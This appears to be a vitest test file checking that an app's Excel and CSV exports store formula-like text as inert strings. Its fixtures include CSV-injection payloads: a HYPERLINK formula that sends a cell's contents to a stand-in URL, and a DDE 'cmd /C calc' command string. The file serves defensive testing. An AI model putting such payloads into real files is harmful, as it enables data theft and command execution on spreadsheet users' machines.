/** Exports cannot attack Excel: formula text in names and assumptions is text in .xlsx and in CSV. */
import { strFromU8, unzipSync } from 'fflate';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import type { ExportBundle, ExportTable } from './tables';
import { toCsv, toXlsx } from './workbook';

const HYPERLINK = '=HYPERLINK("https://example.com/?d="&A1,"Klik hier")';
const FORMULA = '=urgentie_maxAandeelVerhuringen * 2';

const table: ExportTable = {
  name: 'Aannames',
  title: 'Aannames',
  columns: [
    { header: 'Naam', kind: 'tekst' },
    { header: 'Waarde', kind: 'decimaal' },
    { header: 'Formule', kind: 'tekst' },
  ],
  rows: [
    [HYPERLINK, -12.5, FORMULA],
    ['@SUM(1+1)\r\nregel 2', 3, '+1'],
    ['Gewoon', -0.25, ''],
  ],
};

const bundle: ExportBundle = {
  scenario: { id: 1, name: HYPERLINK, status: 'concept', author: '-2+3+cmd|\' /C calc\'!A0', updatedAt: '' },
  modelVersion: '1.0.0',
  appVersion: '0.1.0',
  generatedAt: '2025-01-01T00:00:00Z',
  lastChange: '=1+1',
  tables: [table],
};

async function unzipXlsx(b: ExportBundle): Promise<Record<string, string>> {
  const files = unzipSync(new Uint8Array(await (await toXlsx(b)).arrayBuffer()));
  return Object.fromEntries(Object.entries(files).map(([name, bytes]) => [name, strFromU8(bytes)]));
}

const xmlText = (s: string) => s.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;');

/** The number format of the (first) cell that holds this text, via sharedStrings → sheet cell → cellXfs → numFmts. */
function numberFormatOf(files: Record<string, string>, text: string): string | undefined {
  const strings = [...files['xl/sharedStrings.xml'].matchAll(/<si><t>([^<]*)<\/t><\/si>/g)].map((m) => m[1]);
  const index = strings.indexOf(xmlText(text));
  if (index < 0) throw new Error(`"${text}" is not in the workbook`);
  const sheets = Object.entries(files).filter(([n]) => n.startsWith('xl/worksheets/sheet')).map(([, xml]) => xml);
  const style = sheets.map((xml) => new RegExp(`<c r="[A-Z]+\\d+"(?: s="(\\d+)")? t="s"><v>${index}</v>`).exec(xml)).find(Boolean)?.[1];
  if (style === undefined) return undefined;
  const xf = [...files['xl/styles.xml'].split('<cellXfs')[1].matchAll(/<xf ([^>]*)>/g)][Number(style)][1];
  const id = /numFmtId="(\d+)"/.exec(xf)?.[1];
  return id === undefined ? undefined : new RegExp(`numFmtId="${id}" formatCode="([^"]*)"`).exec(files['xl/styles.xml'])?.[1];
}

describe('toXlsx', () => {
  it('writes formula text as string cells, never as <f> formulas', async () => {
    const files = await unzipXlsx(bundle);
    const sheets = Object.keys(files).filter((n) => /^xl\/worksheets\/sheet\d+\.xml$/.test(n));
    expect(sheets).toHaveLength(2);
    for (const name of sheets) {
      expect(files[name]).not.toMatch(/<f[\s>/]/);
      // Every cell is a shared string (t="s") or a plain number (no t).
      for (const [, attrs] of files[name].matchAll(/<c ([^>]*)>/g)) expect(attrs).toMatch(/^r="[A-Z]+\d+"( s="\d+")?( t="s")?$/);
    }
    const strings = files['xl/sharedStrings.xml'];
    for (const text of [HYPERLINK, FORMULA, '=1+1', '+1']) expect(strings).toContain(`<t>${xmlText(text)}</t>`);
    // Formula text is formatted as Text ("@"), so editing it in Excel keeps it text; ordinary text is not.
    expect(numberFormatOf(files, FORMULA)).toBe('@');
    expect(numberFormatOf(files, HYPERLINK)).toBe('@');
    expect(numberFormatOf(files, 'Gewoon')).toBeUndefined();
  });

  it('keeps negative numbers as numbers', async () => {
    const files = await unzipXlsx(bundle);
    const sheet = Object.entries(files).find(([n, xml]) => n.startsWith('xl/worksheets/') && xml.includes('<v>-12.5</v>'));
    expect(sheet).toBeDefined();
    expect(sheet![1]).toMatch(/<c r="B2"( s="\d+")?><v>-12.5<\/v><\/c>/);
  });
});

describe('toCsv', () => {
  it('neutralises formula text, keeps numbers, and keeps every record on one line', () => {
    const csv = toCsv(table, { ...bundle, info: [['Opmerking', 'a\nb']] });
    const lines = csv.replace(/^\uFEFF/, '').split('\r\n');
    expect(lines).toHaveLength(3 + 1 + 3 + 1);
    const rows = Papa.parse<string[]>(csv.replace(/^\uFEFF/, ''), { delimiter: ';', skipEmptyLines: true }).data;
    expect(rows[1][0]).toBe(`# Scenario: ${HYPERLINK}; modelversie 1.0.0; gemaakt 2025-01-01T00:00:00Z`);
    expect(rows[2][0]).toBe('# Opmerking: a b');
    expect(rows.slice(4)).toEqual([
      [`'${HYPERLINK}`, '-12,50', `'${FORMULA}`],
      ["'@SUM(1+1) regel 2", '3,00', "'+1"],
      ['Gewoon', '-0,25', ''],
    ]);
  });
});
